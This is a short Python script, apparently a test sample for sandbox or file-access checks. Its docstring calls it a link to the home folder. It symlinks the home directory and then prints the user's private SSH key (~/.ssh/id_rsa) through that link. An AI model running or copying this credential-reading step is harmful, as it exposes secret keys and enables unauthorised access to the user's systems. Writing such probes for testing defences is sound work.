"""A link to the home folder."""
import os

os.symlink(os.path.expanduser("~"), "link")
print(open("link/.ssh/id_rsa").read(), end="")
